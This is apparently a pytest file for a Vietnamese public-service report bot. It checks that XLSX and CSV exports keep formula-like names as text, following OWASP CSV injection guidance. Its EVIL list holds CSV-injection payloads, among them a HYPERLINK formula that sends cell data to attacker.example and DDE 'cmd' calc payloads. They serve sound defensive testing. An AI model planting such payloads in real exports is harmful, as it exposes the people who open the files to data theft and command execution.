"""Report exports never turn one-stop text into live spreadsheet formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from bot import report_output, report_workbook
from scoring.frames import REPORT_COLUMNS

EVIL = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def data(evil: str) -> report_output.ReportData:
    agencies = pd.DataFrame(
        [
            {
                "MaCoQuan": evil,
                "name": evil,
                "responses": 3,
                "sipas": -12.5,  # a number, even a negative one, stays a number
                **{f"factor_{f}": 50.0 for f in range(1, 6)},
                "cases": 4,
                "on_time_rate": 75.0,
                "late": 1,
                "overdue_open": 0,
            },
            {"MaCoQuan": "000.00.01.H12", "name": "Sở Tư pháp", "responses": 1, "cases": 1},
        ]
    )
    procedures = pd.DataFrame(
        [
            {"procedure_code": evil, "name": evil, "n": 2, "sipas": 50.0},
            {"procedure_code": "1.001612", "name": "Đăng ký khai sinh", "n": 1},
        ]
    )
    officers = pd.DataFrame(
        [{"agency_code": evil, "agency_name": evil, "officer_name": evil, "n": 2, "sipas": 50.0}]
    )
    return report_output.ReportData(
        start=date(2026, 10, 1),
        end=date(2026, 10, 31),
        agencies=agencies,
        procedures=procedures,
        officers=officers,
    )


@pytest.mark.parametrize("evil", EVIL)
def test_xlsx_keeps_formula_like_names_as_text(evil: str, tmp_path: Path) -> None:
    path = report_workbook.write_xlsx(data(evil), tmp_path / "report.xlsx")
    book = load_workbook(path)
    for title in ("Cơ quan", "Thủ tục", "Công chức"):
        for row in book[title].iter_rows(min_row=3):
            for cell in row:
                assert cell.data_type != "f", (title, cell.coordinate, cell.value)
    agencies = book["Cơ quan"]
    # The value itself is unchanged (XML turns a carriage return into a line feed).
    assert agencies["A3"].value.replace("\n", "\r") == evil.replace("\n", "\r")
    assert agencies["A3"].data_type == "s"
    assert agencies["D3"].value == -12.5 and agencies["D3"].data_type == "n"
    assert book["Công chức"]["C3"].data_type == "s"
    assert agencies["A4"].value == "000.00.01.H12"


@pytest.mark.parametrize("evil", EVIL)
def test_csv_neutralises_formula_like_text_only(evil: str) -> None:
    text = report_output.to_csv(data(evil).agencies)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0]) == list(REPORT_COLUMNS)
    assert rows[0]["MaCoQuan"] == "'" + evil
    assert rows[0]["sipas"] == "-12.5"  # numbers are not quoted
    assert rows[0]["late"] == "1"
    assert rows[1]["MaCoQuan"] == "000.00.01.H12"


def test_csv_leaves_negative_numbers_alone() -> None:
    import numpy as np

    assert report_output.csv_cell("late", np.int64(-3)) == "-3"
    assert report_output.csv_cell("sipas", -0.5) == "-0.5"
    assert report_output.csv_cell("MaCoQuan", "-3") == "'-3"  # text, not a number
